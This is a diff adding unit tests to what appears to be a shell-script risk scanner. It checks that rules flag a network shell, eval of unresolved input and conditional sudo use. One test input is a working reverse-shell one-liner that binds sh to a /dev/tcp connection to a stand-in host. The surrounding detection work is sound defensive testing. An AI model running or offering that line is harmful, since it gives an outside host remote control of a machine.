@@ -78,6 +78,17 @@ def test_a_download_that_is_run_is_worse_than_one_that_is_kept() -> None:
     assert (run.tier, run.band) == ("L3", "high")
 
 
+def test_a_shell_that_reads_a_descriptor_beside_a_connection_is_a_shell_on_a_socket() -> None:
+    assert "sh.corr.network-shell" in rules("exec 5<>/dev/tcp/h.example/80; sh <&5 >&5")
+    assert "sh.corr.network-shell" not in rules("exec 5< steps; sh <&5")
+
+
+def test_two_signs_of_one_disguise_count_once() -> None:
+    judged = assess(b'eval "$1"', "bash")
+    assert {found.rule: found.weight for found in judged.findings} == {"sh.dyn.unresolved": 52, "sh.dyn.eval": 15}
+    assert judged.band == "high"
+
+
 def test_either_value_of_a_variable_counts() -> None:
     assert assess(b"x=ls; if [ -e a ]; then x=sudo; fi; $x id", "bash").tier == "L3"
     assert assess(b"x=sudo; if [ -e a ]; then x=ls; fi; $x id", "bash").tier == "L3"
